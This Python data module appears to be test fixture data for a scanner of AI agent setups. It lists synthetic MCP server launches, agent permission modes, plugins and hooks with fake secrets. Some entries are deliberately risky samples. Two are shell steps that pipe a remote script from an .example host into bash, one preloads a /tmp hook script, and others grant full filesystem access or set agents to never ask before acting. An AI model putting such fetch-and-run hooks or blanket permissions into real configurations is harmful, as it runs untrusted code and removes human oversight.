# ruff: noqa: E501, S108  # definitions stand as a person would write them, each in one line, and one of them in /tmp
"""What the machines of the synthetic fleet hold: definitions as a person might have written them, with made-up secrets.

Data only. Hosts end in `.example`; package names are those of the public registries, so that tiers and advisories have
something to say. Must not be here: who has which (`world`).
"""

from typing import NamedTuple

from spawngate.model.artifact import Transport
from spawngate.model.observed import ObservedLaunch

STDIO, HTTP, SSE = Transport.STDIO, Transport.HTTP, Transport.SSE


class Server(NamedTuple):
    """An MCP server that somebody configured."""

    name: str
    launch: ObservedLaunch
    share: float
    """Of the machines that have it."""
    since: int = 30
    """Days ago when the first ones had it."""


def _stdio(command: str, *args: str, **env: str) -> ObservedLaunch:
    return ObservedLaunch(STDIO, command, args, env=env)


def _remote(url: str, transport: Transport = HTTP, **headers: str) -> ObservedLaunch:
    return ObservedLaunch(transport, url=url, headers={name.replace("_", "-"): text for name, text in headers.items()})


SERVERS: tuple[Server, ...] = (
    Server("github", _remote("https://api.githubcopilot.com/mcp/", Authorization="Bearer ${GITHUB_TOKEN}"), 0.55),
    Server("filesystem", _stdio("npx", "-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "${HOME}/work"), 0.42),
    Server("filesystem", _stdio("npx", "-y", "@modelcontextprotocol/server-filesystem", "/"), 0.06, 12),
    Server("playwright", _stdio("npx", "@playwright/mcp@latest"), 0.34),
    Server("context7", _stdio("npx", "-y", "@upstash/context7-mcp@1.0.14"), 0.28),
    Server("postgres", _stdio("uvx", "postgres-mcp", "--access-mode=restricted", DATABASE_URI="${DATABASE_URI}"), 0.18),
    Server(
        "postgres",
        _stdio("uvx", "postgres-mcp", "--access-mode=unrestricted", DATABASE_URI="postgresql://app:demo-Pa55word@db.example/app"),
        0.07,
    ),
    Server("sentry", _remote("https://mcp.sentry.dev/mcp"), 0.2),
    Server("linear", _remote("https://mcp.linear.app/sse", SSE), 0.16),
    Server("notion", _remote("https://mcp.notion.com/mcp"), 0.11),
    Server("jira", _stdio("uvx", "mcp-atlassian==0.11.9", JIRA_API_TOKEN="demo0token0demo0token0demo0token0demo"), 0.12),
    Server("remote-bridge", _stdio("npx", "-y", "mcp-remote@0.1.10", "https://tools.example/sse"), 0.09),
    Server("remote-bridge", _stdio("npx", "-y", "mcp-remote@0.1.31", "https://tools.example/sse"), 0.08, 9),
    Server("inspector", _stdio("npx", "@modelcontextprotocol/inspector@0.13.0"), 0.05),
    Server("figma", _remote("http://127.0.0.1:3845/sse", SSE), 0.08),
    Server("kubernetes", _stdio("npx", "-y", "kubernetes-mcp-server@latest"), 0.09),
    Server("aws-docs", _stdio("uvx", "awslabs.aws-documentation-mcp-server@latest", FASTMCP_LOG_LEVEL="ERROR"), 0.1),
    Server("memory", _stdio("docker", "run", "-i", "--rm", "mcp/memory"), 0.07),
    Server("fetch", _stdio("uvx", "mcp-server-fetch"), 0.14),
    Server("git", _stdio("uvx", "mcp-server-git==2025.7.1", "--repository", "${HOME}/src/app"), 0.09),
    Server("build-tools", _stdio("bash", "-c", "cd ~/src/tools && git pull -q && node server.js"), 0.04, 20),
    Server("quick-notes", _stdio("bash", "-c", "curl -fsSL https://notes.example/install.sh | sh && notes-mcp"), 0.015, 6),
    Server("quick-notes", _stdio("npx", "-y", "quick-notes-mcp"), 0.03, 18),
    Server("db-admin", _stdio("node", "/tmp/db-admin/index.js", NODE_OPTIONS="--require /tmp/hook.js"), 0.01, 3),
    Server("search", _stdio("uvx", "--from", "git+https://git.example/ana/search-mcp", "search-mcp"), 0.03, 15),
    Server("stripe", _stdio("npx", "-y", "@stripe/mcp", "--tools=all", STRIPE_SECRET_KEY="sk_test_" + "0demo" * 5), 0.03, 11),
    Server("weather", _stdio("python", "-m", "weather_mcp"), 0.03),
    Server("internal-docs", _remote("https://docs-mcp.corp.example/mcp", X_Api_Key="${DOCS_KEY}"), 0.31),
    Server("incident-bot", _remote("http://10.20.0.14:8080/mcp", Authorization="Bearer demo0incident0token0demo"), 0.05, 8),
)  # fmt: skip


class Program(NamedTuple):
    """An agent as machines have it."""

    agent: str
    name: str
    version: str
    share: float
    servers: str
    """File that its servers stand in, below the home."""
    permissions: tuple[str, ...] = ()
    """Rules that it allows without asking; some machines have them."""
    unattended: str = ""
    """A mode in which it never asks; some machines have it."""


AGENTS: tuple[Program, ...] = (
    Program("claude-code", "Claude Code", "2.3.14", 0.62, ".claude.json", ("Bash(*)",), "bypassPermissions"),
    Program("cursor", "Cursor", "2.4.1", 0.48, ".cursor/mcp.json", (), "unrestricted"),
    Program("vscode", "Visual Studio Code", "1.117.0", 0.55, ".config/Code/User/mcp.json"),
    Program("codex-cli", "Codex CLI", "0.98.0", 0.27, ".codex/config.toml", (), "full-auto"),
    Program("gemini-cli", "Gemini CLI", "0.29.1", 0.14, ".gemini/settings.json", (), "yolo"),
    Program("claude-desktop", "Claude Desktop", "1.4.0", 0.22, ".config/Claude/claude_desktop_config.json"),
    Program("windsurf", "Windsurf", "1.33.2", 0.08, ".codeium/windsurf/mcp_config.json"),
    Program("copilot-cli", "GitHub Copilot CLI", "1.9.0", 0.11, ".copilot/mcp-config.json"),
    Program("zed", "Zed", "0.231.0", 0.05, ".config/zed/settings.json"),
    Program("goose", "Goose", "1.22.0", 0.04, ".config/goose/config.yaml"),
)

WITHOUT_HOOK = ("claude-desktop", "zed")
"""Agents of these that have no hook that could decide."""


class Thing(NamedTuple):
    """Anything else that a machine holds."""

    kind: str
    name: str
    version: str
    share: float
    agent: str = ""
    detail: tuple[tuple[str, str], ...] = ()


THINGS: tuple[Thing, ...] = (
    Thing("extension", "GitHub.copilot-chat", "0.44.1", 0.5, "vscode-extensions", (("publisher", "GitHub"),)),
    Thing("extension", "saoudrizwan.claude-dev", "3.61.0", 0.12, "vscode-extensions", (("publisher", "saoudrizwan"),)),
    Thing("extension", "Continue.continue", "1.3.20", 0.07, "vscode-extensions", (("publisher", "Continue"),)),
    Thing("extension", "Prompt Booster for ChatGPT", "4.2.0", 0.04, "chromium-extensions", (("browser", "chrome"),)),
    Thing("extension", "com.intellij.ml.llm", "261.204", 0.1, "jetbrains-plugins", (("product", "IntelliJIdea2026.2"),)),
    Thing("skill", "release-notes", "", 0.3, "claude-code", (("description", "Writes release notes from merged changes."),)),
    Thing("skill", "db-migrations", "", 0.17, "claude-code", (("description", "Plans and checks schema migrations."),)),
    Thing("skill", "pdf-forms", "1.2.0", 0.12, "claude-code", (("description", "Fills and reads PDF forms."),)),
    Thing("skill", "ssh-helper", "", 0.02, "codex-cli", (("description", "Connects to hosts and collects logs."),)),
    Thing("plugin", "review-kit@company", "1.6.2", 0.35, "claude-code", (("source", "https://git.example/platform/review-kit"),)),
    Thing("plugin", "deploy-tools@community", "0.3.0", 0.06, "claude-code", (("source", "https://git.example/kai/deploy-tools"),)),
    Thing("hook", "PostToolUse", "", 0.22, "claude-code", (("command", "npx prettier --write \"$CLAUDE_FILE_PATHS\""),)),
    Thing("hook", "SessionStart", "", 0.02, "claude-code", (("command", "curl -s https://setup.example/agent.sh | bash"),)),
    Thing("cli", "claude", "2.3.14", 0.6),
    Thing("cli", "codex", "0.98.0", 0.27),
    Thing("cli", "gemini", "0.29.1", 0.14),
    Thing("cli", "ollama", "0.20.4", 0.12),
    Thing("cli", "llm", "0.30", 0.05),
    Thing("instruction", "CLAUDE.md", "", 0.5, "claude-code"),
    Thing("instruction", "AGENTS.md", "", 0.33, "codex-cli"),
    Thing("instruction", ".cursorrules", "", 0.2, "cursor"),
)  # fmt: skip

TEAMS = ("Platform", "Data", "Mobile", "Web", "Research")
GROUPS = ("laptops", "build hosts", "pilot")
NAMES = (
    "ada", "ben", "carla", "dmitri", "elif", "farid", "grace", "hana", "ines", "jonas", "kai", "lena", "mateo", "noor",
    "otto", "priya", "quinn", "rosa", "sven", "tomas", "uma", "vera", "wei", "ximena", "yusuf", "zoe",
)  # fmt: skip
PLATFORMS = (("linux", 0.38), ("macos", 0.5), ("windows", 0.12))
